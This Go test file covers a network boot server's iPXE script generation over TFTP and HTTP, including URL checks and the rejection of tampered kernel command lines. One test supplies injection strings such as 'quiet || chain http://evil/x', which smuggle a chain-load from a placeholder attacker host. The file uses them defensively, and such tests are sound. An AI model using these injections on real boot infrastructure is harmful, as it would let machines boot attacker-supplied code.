package bootserver

import (
	"encoding/json"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/landscaper-nix/landscaper/formats/bootentry"
)

func TestBootScript(t *testing.T) {
	f := newFixture(t, nil)
	got, size, err := tftpGet(f.tftpAddr(), "boot.ipxe", 0, true)
	if err != nil {
		t.Fatal(err)
	}
	if size != int64(len(bootScript)) {
		t.Errorf("tsize = %d, want %d", size, len(bootScript))
	}
	s := string(got)
	for _, want := range []string{
		"#!ipxe\n",
		// Relative, so the machine comes back to the address it used.
		"chain --replace --autofree machine/${mac:hexhyp}.ipxe ||",
		"exit 1",
	} {
		if !strings.Contains(s, want) {
			t.Errorf("boot.ipxe lacks %q:\n%s", want, s)
		}
	}
	if strings.Contains(s, "://") {
		t.Errorf("boot.ipxe has an absolute URL:\n%s", s)
	}
	resp, body := httpGet(t, f.httpBase()+"boot.ipxe", nil)
	if resp.StatusCode != http.StatusOK || string(body) != s || resp.ContentLength != int64(len(s)) {
		t.Errorf("boot.ipxe over HTTP: %s, %d bytes", resp.Status, len(body))
	}
}

// kernelLine returns the script's kernel command.
func kernelLine(t *testing.T, script string) string {
	t.Helper()
	for _, l := range strings.Split(script, "\n") {
		if strings.HasPrefix(l, "kernel ") {
			return l
		}
	}
	t.Fatalf("no kernel line in:\n%s", script)
	return ""
}

func TestMachineScript(t *testing.T) {
	tests := []struct {
		name    string
		httpURL string
		base    string
	}{
		{"relative", "", "../"},
		{"http url", "http://10.0.0.1:8069", "http://10.0.0.1:8069/"},
		{"http url with path", "http://boot.example/landscaper/", "http://boot.example/landscaper/"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := newFixture(t, func(c *Config) { c.HTTPURL = tt.httpURL })
			v := f.putEntry("52-54-00-AB-CD-EF", []byte("k"), [][]byte{[]byte("i0"), []byte("i1")},
				"init=/nix/store/abc-nixos/init console=ttyS0 quiet", []byte("cpio"))
			got, _, err := tftpGet(f.tftpAddr(), "machine/52:54:00:ab:cd:ef.ipxe", 1468, true)
			if err != nil {
				t.Fatal(err)
			}
			s := string(got)
			prefix := tt.base + "v/52-54-00-ab-cd-ef/" + v.ID + "/"
			wantKernel := "kernel --name kernel " + prefix + "kernel initrd=initrd0 initrd=initrd1 initrd=extra.cpio init=/nix/store/abc-nixos/init console=ttyS0 quiet || goto retry"
			if k := kernelLine(t, s); k != wantKernel {
				t.Errorf("kernel line\n got %s\nwant %s", k, wantKernel)
			}
			for _, want := range []string{
				"#!ipxe\n",
				"initrd --name initrd0 " + prefix + "initrd/0 || goto retry\n",
				"initrd --name initrd1 " + prefix + "initrd/1 || goto retry\n",
				"initrd --name extra.cpio " + prefix + "extra.cpio || goto retry\n",
				"boot || goto retry\n",
				"goto fetch\n",
				"exit 1\n",
			} {
				if !strings.Contains(s, want) {
					t.Errorf("script lacks %q:\n%s", want, s)
				}
			}
			// Every file URL names the version the script came from.
			urls := regexp.MustCompile(`\S*v/52-54-00-ab-cd-ef/\S+`).FindAllString(s, -1)
			if len(urls) != 4 {
				t.Errorf("want 4 file URLs, got %q", urls)
			}
			for _, u := range urls {
				if !strings.HasPrefix(u, prefix) {
					t.Errorf("URL %s is not under %s", u, prefix)
				}
			}
			// The URLs work, relative to the script's own (machine/).
			for _, u := range urls {
				name := strings.TrimPrefix(u, tt.base)
				if _, _, err := tftpGet(f.tftpAddr(), name, 0, false); err != nil {
					t.Errorf("%s: %v", name, err)
				}
			}
		})
	}
}

func TestMachineScriptNoInitrds(t *testing.T) {
	f := newFixture(t, nil)
	f.putEntry(testMAC, []byte("k"), nil, "", nil)
	_, body := httpGet(t, f.httpBase()+"machine/52-54-00-12-34-56.ipxe", nil)
	if k := kernelLine(t, string(body)); !strings.HasSuffix(k, "/kernel || goto retry") {
		t.Errorf("kernel line %q", k)
	}
	if strings.Contains(string(body), "initrd --name") {
		t.Errorf("initrd lines without initrds:\n%s", body)
	}
}

func TestNoEntryScript(t *testing.T) {
	f := newFixture(t, nil)
	f.putEntry(testMAC, []byte("k"), [][]byte{[]byte("i")}, "", nil)
	for _, name := range []string{"machine/52-54-00-00-00-01.ipxe", "machine/52:54:00:00:00:01.ipxe"} {
		got, _, err := tftpGet(f.tftpAddr(), name, 0, false)
		if err != nil {
			t.Fatal(err)
		}
		s := string(got)
		if !strings.HasPrefix(s, "#!ipxe\n") || !strings.Contains(s, "echo landscaper: there is no boot entry for 52:54:00:00:00:01") ||
			!strings.HasSuffix(s, "exit 1\n") {
			t.Errorf("script for a MAC without entry:\n%s", s)
		}
		for _, never := range []string{"kernel", "initrd", "chain", "boot ||", "sanboot"} {
			if strings.Contains(s, never) {
				t.Errorf("script for a MAC without entry holds %q:\n%s", never, s)
			}
		}
	}
	eventually(t, 5*time.Second, "the log line for the MAC without entry", func() bool {
		return strings.Contains(f.logs.String(), "no boot entry for this MAC")
	})
}

// TestScriptRefusesBadCmdline: a command line that fails the checks in an
// entry on disk gets no script at all.
func TestScriptRefusesBadCmdline(t *testing.T) {
	tests := []struct {
		name    string
		cmdline string
	}{
		{"newline", "quiet\nchain http://evil/x"},
		{"expansion", "quiet ${net0/ip}"},
		{"or", "quiet || chain http://evil/x"},
		{"and", "quiet && chain http://evil/x"},
		{"semicolon", "quiet ; chain http://evil/x"},
		{"comment", "quiet #rest"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := newFixture(t, nil)
			v := f.putEntry(testMAC, []byte("k"), nil, "quiet", nil)
			// Edit the version behind the provider's back.
			path := filepath.Join(v.Dir, "entry.json")
			var e bootentry.Entry
			b, _ := os.ReadFile(path)
			if err := json.Unmarshal(b, &e); err != nil {
				t.Fatal(err)
			}
			e.Cmdline = tt.cmdline
			b, _ = json.Marshal(e)
			if err := os.WriteFile(path, b, 0o644); err != nil {
				t.Fatal(err)
			}
			if _, _, err := tftpGet(f.tftpAddr(), "machine/52-54-00-12-34-56.ipxe", 0, false); err == nil || !strings.Contains(err.Error(), "internal error") {
				t.Errorf("TFTP: err = %v, want internal error", err)
			}
			if resp, body := httpGet(t, f.httpBase()+"machine/52-54-00-12-34-56.ipxe", nil); resp.StatusCode != http.StatusInternalServerError || strings.Contains(string(body), "evil") {
				t.Errorf("HTTP: %s %q, want 500", resp.Status, body)
			}
		})
	}
}

func TestCheckHTTPURL(t *testing.T) {
	for raw, ok := range map[string]bool{
		"http://10.0.0.1:8069":      true,
		"https://boot.example/a/b/": true,
		"ftp://x":                   false,
		"http://":                   false,
		"http://x/?a=b":             false,
		"http://x/#f":               false,
		"http://x/${net0/ip}":       false,
		"http://x/a b":              false,
		"http://u:p@x/":             false,
		"10.0.0.1:8069":             false,
	} {
		if _, err := checkHTTPURL(raw); (err == nil) != ok {
			t.Errorf("checkHTTPURL(%q) = %v, want ok=%v", raw, err, ok)
		}
	}
}
